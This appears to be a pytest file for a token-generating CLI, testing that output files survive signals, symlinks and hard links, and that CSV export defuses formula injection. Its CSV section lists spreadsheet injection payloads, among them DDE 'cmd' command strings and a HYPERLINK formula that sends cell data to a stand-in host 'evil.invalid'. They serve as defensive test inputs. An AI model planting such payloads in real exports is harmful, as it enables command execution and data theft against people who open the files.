"""`token --output` and `--output-format csv`: what reaches the disk (#13).

Signals run in a real subprocess: os.replace is wrapped so the process signals
itself at the worst moment, when the temp file holds every live token.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opentok_studio.core.batch import export_rows, neutralise_formula
from opentok_studio.core.model import TokenRequest
from tests.helpers import cli, vectors
from tests.helpers.cli import PROJECT_ENV

ROOT = Path(__file__).resolve().parents[3]

KILL_IN_REPLACE = r"""
import os, signal, sys
from opentok_studio.cli import main

real_replace = os.replace

def replace_then_signal(src, dst):
    # The temp file is complete here: the worst moment to be killed.
    os.kill(os.getpid(), getattr(signal, sys.argv[1]))
    return real_replace(src, dst)

os.replace = replace_then_signal
sys.exit(main(sys.argv[2:]))
"""


def token_args(*extra: str) -> list[str]:
    return ["token", "--session-id", vectors.SID, *extra]


def run(*argv: str) -> tuple[int, str, str]:
    return cli.run(*argv, env=PROJECT_ENV)


@pytest.mark.parametrize("name", ["SIGTERM", "SIGHUP", "SIGINT"])
def test_a_signal_during_output_leaves_no_temp_file(tmp_path: Path, name: str) -> None:
    target = tmp_path / "tokens.txt"
    env = {**os.environ, **PROJECT_ENV, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-c", KILL_IN_REPLACE, name,
         *token_args("--count", "1000", "--output", str(target))],
        cwd=ROOT, env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    signum = getattr(signal, name)
    assert done.returncode == 128 + signum, done.stderr
    assert (
        done.stderr.startswith("error: ") and "no partial file was left" in done.stderr
    )
    assert done.stderr.count("\n") == 1, done.stderr
    assert list(tmp_path.iterdir()) == []  # neither the file nor its temp file


def test_output_through_a_link_to_dev_stdout_prints(tmp_path: Path) -> None:
    # A link of our own to /dev/stdout: a regression replaces only this link.
    link = tmp_path / "stdout"
    link.symlink_to("/dev/stdout")
    env = {**os.environ, **PROJECT_ENV, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-m", "opentok_studio",
         *token_args("--count", "3", "--output", str(link))],
        cwd=ROOT, env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 3
    assert link.is_symlink() and os.readlink(link) == "/dev/stdout"
    assert [p.name for p in tmp_path.iterdir()] == ["stdout"]


def test_output_to_a_link_to_dev_null_keeps_both(tmp_path: Path) -> None:
    link = tmp_path / "null"
    link.symlink_to("/dev/null")
    rc, out, err = run(*token_args("--output", str(link)))
    assert rc == 0, err
    assert out == ""
    assert link.is_symlink() and stat.S_ISCHR(os.stat(link).st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["null"]


def test_output_keeps_an_existing_files_mode_and_links(tmp_path: Path) -> None:
    target = tmp_path / "tokens.txt"
    target.write_text("old\n")
    target.chmod(0o644)
    os.link(target, tmp_path / "copy.txt")
    rc, _, err = run(*token_args("--count", "2", "--output", str(target)))
    assert rc == 0, err
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    assert (tmp_path / "copy.txt").read_text() == target.read_text()
    assert len(target.read_text().splitlines()) == 2


def test_a_signal_during_an_in_place_write_waits_for_the_whole_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Hard-linked: written in place, where a signal mid-write would cut it short.
    target = tmp_path / "tokens.txt"
    target.write_text("old tokens\n" * 1000)
    os.link(target, tmp_path / "link.txt")
    real_write = os.write
    sent: list[int] = []

    def half_then_signal(fd: int, data: bytes) -> int:
        if sent:
            return real_write(fd, data)
        sent.append(signal.SIGTERM)
        written = real_write(fd, bytes(data[: len(data) // 2]))
        signal.raise_signal(signal.SIGTERM)
        return written

    with monkeypatch.context() as m:
        m.setattr(os, "write", half_then_signal)
        rc, out, err = run(*token_args("--count", "50", "--output", str(target)))
    assert sent and rc == 128 + signal.SIGTERM, err
    assert "SIGTERM" in err and "no partial file was left" in err
    lines = target.read_text().splitlines()
    assert len(lines) == 50 and all(line.startswith("eyJ") for line in lines)
    assert (tmp_path / "link.txt").read_text() == target.read_text()


# -- CSV injection (finding 6) --------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_output_neutralises_formulas_and_jsonl_keeps_data(payload: str) -> None:
    rc, out, err = run(*token_args("--data", payload, "--output-format", "csv"))
    assert rc == 0, err
    (row,) = list(csv.DictReader(io.StringIO(out, newline="")))
    assert row["data"] == "'" + payload
    rc, out, _ = run(*token_args("--data", payload, "--output-format", "jsonl"))
    assert rc == 0
    assert json.loads(out)["data"] == payload


@settings(max_examples=200)
@given(cell=st.text(max_size=30))
def test_no_csv_cell_starts_a_formula_and_the_quote_is_all_that_changes(
    cell: str,
) -> None:
    safe = neutralise_formula(cell)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe in (cell, "'" + cell)
    request = TokenRequest(session_id=vectors.SID, data=cell)
    text = export_rows(["T1==x"], [request], "csv")
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["data"] == safe
    assert row["token"] == "T1==x"
